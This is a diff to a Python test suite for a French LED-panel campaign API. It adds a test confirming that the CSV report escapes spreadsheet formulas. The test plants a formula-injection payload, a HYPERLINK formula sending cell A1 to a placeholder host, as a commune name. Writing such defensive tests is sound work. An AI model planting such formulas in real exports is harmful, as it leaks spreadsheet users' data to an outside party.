@@ -235,7 +235,7 @@ def test_a_campaign_shows_only_where_communes_accept_and_reports_its_reach(
     assert report["panels"][0]["first_display"] == "1970-01-01T00:01:40Z"
     table = client.get(f"/api/v1/campaigns/{campaign_id}/report?format=csv")
     assert table.mimetype == "text/csv"
-    rows = list(csv.reader(io.StringIO(table.get_data(as_text=True))))
+    rows = spreadsheet_rows(table.get_data(as_text=True))
     assert rows[0][0] == "campagne" and rows[1][3] == "bourg-entree-nord" and rows[1][4] == "3"
     assert (
         client.get(f"/api/v1/campaigns/{campaign_id}/report", headers={"Accept": "text/csv"}).mimetype
@@ -243,6 +243,48 @@ def test_a_campaign_shows_only_where_communes_accept_and_reports_its_reach(
     )
     assert client.post(f"/api/v1/campaigns/{campaign_id}/stop").json["stopped_at"] is not None
     assert message["item_id"] not in on_air(client, "bourg-entree-nord", later)
+
+
+def spreadsheet_rows(text: str) -> list[list[str]]:
+    """The cells of a CSV export as a French spreadsheet reads them: a byte order mark, ``;`` between cells."""
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+
+
+def test_the_campaign_report_never_hands_a_formula_to_the_spreadsheet(
+    app: Flask, client: FlaskClient
+) -> None:
+    formula = '=HYPERLINK("http://example.invalid/?"&A1;"Bourg")'
+    added = client.post(
+        "/api/v1/panels",
+        json={
+            "id": "piege",
+            "name": "Piège",
+            "commune_insee": "01053",
+            "commune_name": formula,
+            "profile": "led-red-96x16",
+        },
+    )
+    assert added.status_code == 201, added.json
+    campaign_id = client.post(
+        "/api/v1/campaigns",
+        json={"name": "Piège", "starts_at": paris(0).isoformat(), "ends_at": paris(20).isoformat(),
+              "share": 0.5, "panels": ["piege"]},
+    ).json["id"]  # fmt: skip
+    message = client.post(
+        "/api/v1/messages", json={"text": "Bonjour", "panels": ["piege"], "campaign": campaign_id}
+    )
+    with app.app_context():
+        event = PanelEvent(
+            "piege",
+            EVENT_PLAY,
+            100,
+            {"item_id": message.json["item_id"], "started_at": 100.0, "ended_at": 109.0},
+        )
+        record_report(get_db(), event, 110)
+    table = client.get(f"/api/v1/campaigns/{campaign_id}/report?format=csv").get_data(as_text=True)
+    [row] = spreadsheet_rows(table)[1:]
+    assert row[2:5] == ["'" + formula, "piege", "1"]
 
 
 def test_a_dry_run_shows_the_resolved_panels_and_stores_nothing(
